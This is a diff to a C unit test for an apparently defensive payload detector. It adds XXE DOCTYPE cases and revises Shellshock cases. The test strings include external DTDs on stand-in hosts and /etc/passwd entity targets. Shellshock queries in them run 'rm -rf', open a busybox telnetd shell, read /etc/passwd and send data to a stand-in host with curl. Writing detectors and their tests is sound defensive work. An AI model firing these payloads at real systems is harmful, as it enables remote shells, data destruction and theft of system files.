@@ -3,7 +3,7 @@
  * it reaches another origin or reads request variables, an Office
  * relationship when the package loads its target, a CDATA section when the
  * markup it spells is a whole tag), DOCTYPEs whose public identifier's
- * owner serves its own DTD, and Shellshock's definition standing alone
+ * owner serves its own DTD, and Shellshock's ':' probe standing alone
  * where a raw '&' in a whole query cut it from its command. Each value is
  * judged as a query value and as a form body (payload_rt_table.h). */
 #include <stdarg.h>
@@ -42,6 +42,8 @@ static void test_xxe_relatives(void **state)
 		/* a public identifier whose DTD comes from elsewhere */
 		{ "<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"http://evil.test/x.dtd\"><plist/>", X },
 		{ "<!DOCTYPE foo PUBLIC \"-//A//B//EN\" \"http://evil.test/x.dtd\"><foo/>", X },
+		{ "<!DOCTYPE beans PUBLIC \"-//SPRING//DTD BEAN//EN\" \"http://evil.test/spring.dtd\"><beans/>", X },
+		{ "<!DOCTYPE r PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"http://www.apple.com.evil.test/x.dtd\"><r/>", X },
 		{ "<!DOCTYPE r SYSTEM \"../../../etc/passwd\"><r/>", X },
 		{ "<!DOCTYPE r SYSTEM \"/etc/passwd\"><r/>", X },
 		{ "<!DOCTYPE r SYSTEM \"http://evil.test/a.dtd\"><r/>", X },
@@ -71,6 +73,8 @@ static void test_xxe_lookalikes(void **state)
 		  "\"http://struts.apache.org/dtds/struts-config_1_3.dtd\">", N },
 		{ "<!DOCTYPE mapper PUBLIC \"-//mybatis.org//DTD Mapper 3.0//EN\" "
 		  "\"http://mybatis.org/dtd/mybatis-3-mapper.dtd\">", N },
+		{ "<!DOCTYPE beans PUBLIC \"-//SPRING//DTD BEAN//EN\" "
+		  "\"http://www.springframework.org/dtd/spring-beans.dtd\">", N },
 		/* a DTD beside the document */
 		{ "<!DOCTYPE log4j:configuration SYSTEM \"log4j.dtd\">", N },
 	};
@@ -109,16 +113,15 @@ static void test_xxe_none(void **state)
 	}
 }
 
+/* Shellshock's definition as a whole value, and whole raw queries whose
+ * '&' cuts the command off: bash's ':' probe stands alone; a one-word
+ * body other than ':' ("() { x; }") is a JavaScript look-alike
+ * (test_payload_rtt.c test_shellshock_cut) and is left */
 static void test_shellshock_alone(void **state)
 {
 	static const struct rtcase t[] = {
-		/* the definition alone, its command cut off by a raw '&' */
-		{ "() { x; } ", S },
-		{ "() { _; }", S },
-		{ "() { 0; } ", S },
-		{ "() { a;  } ", S },
-		{ "() { true; }", S },
-		/* JavaScript bodies */
+		{ "() { :; } ", S },
+		{ "() { :;};", S },
 		{ "() { return; }", N },
 		{ "() { break; }", N },
 		{ "() { this; }", N },
@@ -130,14 +133,13 @@ static void test_shellshock_alone(void **state)
 	rt_run("shellshock", t, sizeof(t) / sizeof(t[0]));
 }
 
-/* whole raw query strings: the command after the definition is cut by '&' */
 static void test_shellshock_wholequery(void **state)
 {
 	static const char *const q[] = {
-		"() { _; } && rm -rf /tmp/x",
-		"() { x; } && /bin/busybox telnetd -p 9999 -l /bin/sh",
-		"q=() { a;  } && echo \"Content-type: text/html\"; echo; /bin/uname -a",
-		"() { 0; } && /usr/bin/curl -s http://oob.example/$(whoami)",
+		"() { :; } && rm -rf /tmp/x",
+		"q=() { :;} && /bin/busybox telnetd -p 9999 -l /bin/sh",
+		"q=() { :; }; echo; /bin/cat /etc/passwd&x=1",
+		"q=() { :;}; /usr/bin/curl -s http://oob.example/?a=1&b=2",
 	};
 	struct payload_match m[PAYLOAD__COUNT];
 
